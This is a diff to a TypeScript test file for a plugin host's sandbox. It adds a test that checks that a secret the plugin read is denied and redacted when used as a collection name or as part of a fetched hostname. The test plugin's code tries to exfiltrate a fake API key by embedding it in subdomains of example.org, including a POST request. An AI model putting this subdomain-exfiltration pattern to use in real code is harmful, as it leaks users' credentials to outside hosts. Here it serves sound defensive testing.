@@ -1,7 +1,7 @@
 /** May a secret be read anywhere, if the plugin that was told it says it aloud? Not in what the host shows to people. */
 import { beforeEach, describe, expect, it } from "vitest";
 import { target } from "#target";
-import { call, callRoute, createPost, eventually, install, must, rows, type Json } from "./client.ts";
+import { call, callRoute, createPost, eventually, install, invocations, must, rows, type Json } from "./client.ts";
 import { sketch } from "./plugins.ts";
 
 beforeEach(() => target.reset());
@@ -77,6 +77,46 @@ describe("a secret the plugin has read", () => {
     expect((await callRoute("talk", "fails")).body["error"]).toMatchObject({ message: "no [redacted]" });
     await install(sketch("other", { routes: { says: `() => { throw new Error(${JSON.stringify(SECRET)}); }` } }));
     expect((await callRoute("other", "says")).body["error"]).toMatchObject({ message: SECRET });
+  });
+
+  it("stands nowhere that it was used in the place of a name: of a collection, a host, a table", async () => {
+    const key = "sk-Live-0123456789";
+    const tries = `async (_, ctx) => {
+      ${READ}
+      const all = [
+        () => ctx.content.list(key),
+        () => ctx.http.fetch("https://" + key + ".example.org/", { method: "POST" }),
+        () => ctx.http.fetch("https://" + "a".repeat(60) + "." + "b".repeat(30) + "." + key + ".example.org/"),
+      ];
+      const ends = [];
+      for (const attempt of all) ends.push(await attempt().then(() => "done", (error) => error.code));
+      return ends;
+    }`;
+    const named = (id: string) =>
+      sketch(id, {
+        capabilities: ["content:read", "network:request"],
+        hosts: ["api.example.com"],
+        routes: { tries },
+        manifest: { admin: { settingsSchema } },
+      });
+    await install(named("narrow"), { collections: ["posts"] });
+    await install(named("wide"));
+    for (const id of ["narrow", "wide"]) await setKey(id, key);
+    expect((await callRoute("narrow", "tries")).body["data"]).toEqual(["DENIED", "DENIED", "DENIED"]);
+    expect((await callRoute("wide", "tries")).body["data"]).toEqual(["NOT_FOUND", "DENIED", "DENIED"]);
+    await invocations("narrow", 1);
+    await invocations("wide", 1);
+    const kept = async () =>
+      JSON.stringify([
+        await rows("SELECT target, calls FROM _host_usage"),
+        await rows("SELECT targets FROM _host_denials"),
+        await rows("SELECT outside FROM _host_invocations"),
+      ]);
+    await eventually(async () => expect(await kept()).toContain("[redacted].example.org"));
+    expect((await kept()).toLowerCase()).not.toMatch(/sk-|live|012345/);
+    expect(await rows("SELECT outside FROM _host_invocations")).toContainEqual({
+      outside: "http.fetch POST [redacted].example.org",
+    });
   });
 
   it("of six characters is redacted, one of five tears up no words", async () => {
